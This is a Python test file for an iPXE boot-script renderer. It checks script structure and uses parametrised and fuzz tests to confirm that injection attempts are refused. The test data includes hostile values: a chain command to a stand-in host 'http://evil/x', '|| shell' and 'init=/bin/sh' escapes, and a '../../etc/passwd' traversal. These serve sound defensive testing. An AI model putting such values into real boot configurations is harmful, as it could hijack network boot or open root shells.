"""iPXE script renderer: the script's shape and that no object field can inject commands."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cwboot.protocol import ipxe

NODE = {"name": "n7"}
BC = {
    "kernel": "vmlinuz-6.1",
    "initramfs": "0123456789abcdef0123456789abcdef",
    "cmdline": "console=ttyS0,115200n8  quiet",
    "image": "rocky9",
    "boot_style": "overlay",
}
HEADS = ["http://10.0.0.1:8081", "http://10.0.0.2:8081"]
MAC = "52:54:00:12:34:56"


def test_script_tries_every_head_and_carries_the_contract() -> None:
    text = ipxe.render(ipxe.spec_for(MAC, NODE, BC, "3"), HEADS)
    lines = text.splitlines()
    assert lines[0] == "#!ipxe"
    kernel_line = next(line for line in lines if line.startswith("kernel "))
    assert kernel_line.count("kernel --name vmlinuz") == 2
    assert "http://10.0.0.2:8081/boot/kernel/vmlinuz-6.1" in kernel_line
    assert kernel_line.endswith("|| goto wait")
    args = kernel_line.split(" || ")[0].split()[4:]
    assert args == [
        "initrd=initramfs",
        "console=ttyS0,115200n8",
        "quiet",
        "cwboot.heads=http://10.0.0.1:8081,http://10.0.0.2:8081",
        "cwboot.image=rocky9",
        "cwboot.version=3",
        "cwboot.style=overlay",
        "cwboot.mac=52-54-00-12-34-56",
        "cwboot.node=n7",
    ]
    assert any(
        line.startswith("initrd --name initramfs http://10.0.0.1:8081/boot/initramfs/")
        for line in lines
    )
    assert "goto retry" in lines


def test_no_image_means_no_image_arguments() -> None:
    text = ipxe.render(ipxe.spec_for(MAC, NODE, {**BC, "image": ""}, ""), HEADS[:1])
    assert "cwboot.image" not in text and "cwboot.heads=http://10.0.0.1:8081" in text


@pytest.mark.parametrize(
    ("where", "value"),
    [
        ("cmdline", "quiet ${net0/ip}"),
        ("cmdline", "quiet || shell"),
        ("cmdline", "quiet\nshell"),
        ("cmdline", "a && chain http://evil/x"),
        ("cmdline", "init=/bin/sh #"),
        ("cmdline", 'root="x"'),
        ("cmdline", "a;b"),
        ("kernel", "vmlinuz shell"),
        ("kernel", "../../etc/passwd"),
        ("initramfs", "x${y}"),
        ("image", "img\nshell"),
        ("boot_style", "rwram shell"),
    ],
)
def test_injection_is_refused(where: str, value: str) -> None:
    with pytest.raises(ipxe.ScriptError):
        ipxe.spec_for(MAC, NODE, {**BC, where: value}, "1")


@pytest.mark.parametrize("heads", [[], ["http://h:1 || shell"], ["ftp://x"], ["http://x/${a}"]])
def test_bad_heads_are_refused(heads: list[str]) -> None:
    with pytest.raises(ipxe.ScriptError):
        ipxe.render(ipxe.spec_for(MAC, NODE, BC, "1"), heads)


def test_bad_node_name_and_version() -> None:
    with pytest.raises(ipxe.ScriptError):
        ipxe.spec_for(MAC, {"name": "n1 || shell"}, BC, "1")
    with pytest.raises(ipxe.ScriptError):
        ipxe.spec_for(MAC, NODE, BC, "1 || shell")


SPECIAL = set("$|&#;\"'\\\n\r\t")


@given(st.text(max_size=60), st.text(max_size=20))
def test_fuzz_rendered_scripts_never_carry_special_characters(cmdline: str, kernel: str) -> None:
    try:
        text = ipxe.render(
            ipxe.spec_for(MAC, NODE, {**BC, "cmdline": cmdline, "kernel": kernel}, "1"), HEADS
        )
    except ipxe.ScriptError:
        return
    for line in text.splitlines():
        if line.startswith(("kernel", "initrd")):
            assert not (SPECIAL - {"|"}) & set(line)
            assert line.count("|") == 2 * line.count(" || ")
    assert len(text.splitlines()) == 11


def test_exit_script_is_sanitised() -> None:
    text = ipxe.render_exit(MAC, "no kernel ${x} || shell")
    assert "$" not in text and "|" not in text and text.endswith("exit\n")
